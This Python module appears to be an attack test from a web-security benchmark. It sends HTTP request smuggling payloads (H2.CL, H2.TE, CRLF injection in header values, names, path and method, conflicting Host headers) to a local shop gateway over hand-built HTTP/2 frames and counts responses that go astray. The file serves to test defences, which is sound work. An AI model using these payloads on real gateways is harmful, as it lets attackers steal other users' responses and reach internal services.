"""A request inside another: it is answered by nobody, and no component hears of it."""

import re
import socket
import ssl
import struct
from collections.abc import Iterable

import httpx2

from bench.attacks import wire
from bench.attacks.site import Site
from tests import smuggled

PROFILE = re.compile(
    r'^multireco_http_request_duration_seconds_count\{.*route="/v1/profiles/.*\} (\S+)$', re.M
)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, DATA, SETTINGS = 1, 0, 4
END_STREAM, END_HEADERS = 1, 4
INNER = smuggled.INNER
Fields = Iterable[tuple[str, str]]
POST = ((":method", "POST"), (":scheme", "https"), (":authority", "shop"))
TO = ((":path", "/v1/products:batch"), ("content-type", "application/json"))
# What becomes of them where HTTP/2 is put into HTTP/1.1: name, fields, body.
OVER_HTTP_2: dict[str, tuple[Fields, str]] = {
    "H2.CL": ((*POST, *TO, ("content-length", "0")), INNER),
    "H2.TE": ((*POST, *TO, ("transfer-encoding", "chunked")), smuggled.END + INNER),
    "H2, lines in a value": (
        (*POST, *TO, ("x-a", f"b\r\ntransfer-encoding: chunked\r\n\r\n{smuggled.END}{INNER}")),
        INNER,
    ),
    "H2, lines in a name": ((*POST, *TO, ("x-a: b\r\nx-c", f"d\r\n\r\n{INNER}")), INNER),
    "H2, lines in the path": (
        (*POST, (":path", f"/v1/x HTTP/1.1\r\nHost: shop\r\n\r\n{INNER}"), TO[1]),
        "{}",
    ),
    "H2, a space in the method": (
        ((":method", f"GET {smuggled.INSIDE} HTTP/1.1\r\nX-A: b"), *POST[1:], *TO),
        "{}",
    ),
    "H2, Connection": ((*POST, *TO, ("connection", "transfer-encoding")), INNER),
    "H2, two authorities": ((*POST, *TO, ("host", "elsewhere"), ("host", "again")), INNER),
}


def attack(site: Site) -> dict[str, float]:
    """second_answers: to one request; reached: what a component heard; astray: answers to decent
    requests afterwards that were another's.
    """
    second = astray = 0
    before = _heard(site)
    for sent in smuggled.REQUESTS.values():
        second += len(wire.statuses(wire.exchanged(site.port, sent, seconds=0.6))) > 1
        astray += _astray(site)
    for fields, body in OVER_HTTP_2.values():
        second += _answers_over_http_2(site.secure, fields, body.encode()) > 1
        astray += _astray(site)
    return {
        "smuggling.second_answers": float(second),
        "smuggling.reached": _heard(site) - before,
        "smuggling.astray": float(astray),
        "smuggling.tried": float(len(smuggled.REQUESTS) + len(OVER_HTTP_2)),
    }


def _heard(site: Site) -> float:
    """Requests for a profile by its slug: nobody makes one here but who is smuggled in."""
    told = httpx2.get(f"http://127.0.0.1:{site.shop.ports['profile']}/metrics").text
    return sum(float(count) for count in PROFILE.findall(told))


def _astray(site: Site) -> int:
    wrong = 0
    for item in ("pasta-3", "coffee-3", "tea-3"):
        asked = wire.request("GET", f"/v1/products/{item}", "Cookie: a=b", "Connection: close")
        told = wire.exchanged(site.port, asked)
        wrong += f'"id":"{item}"'.encode() not in told
    return wrong


def _answers_over_http_2(port: int, fields: Fields, body: bytes) -> int:
    """How many heads of answers come back on the only stream that was opened, and others."""
    trusting = ssl.create_default_context()
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    trusting.set_alpn_protocols(["h2"])
    with (
        socket.create_connection(("127.0.0.1", port), 5) as plain,
        trusting.wrap_socket(plain, server_hostname="localhost") as connection,
    ):
        if connection.selected_alpn_protocol() != "h2":
            raise RuntimeError("the gateway does not speak HTTP/2")
        head = b"".join(_field(name, value) for name, value in fields)
        connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
        connection.sendall(_frame(HEADERS, END_HEADERS, 1, head))
        connection.sendall(_frame(DATA, END_STREAM, 1, body))
        told = wire.heard(connection, 0.6)
    return sum(kind == HEADERS for kind in _kinds(told))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def _field(name: str, value: str) -> bytes:
    """HPACK, a literal without indexing (RFC 7541, 6.2.2)."""
    return b"\0" + b"".join(_text(each.encode()) for each in (name, value))


def _text(said: bytes) -> bytes:
    if len(said) < 127:
        return bytes([len(said)]) + said
    rest, told = len(said) - 127, bytearray([127])
    while rest >= 128:
        told.append(rest % 128 + 128)
        rest //= 128
    return bytes([*told, rest]) + said


def _kinds(told: bytes) -> Iterable[int]:
    place = 0
    while place + 9 <= len(told):
        yield told[place + 3]
        place += 9 + int.from_bytes(told[place : place + 3], "big")
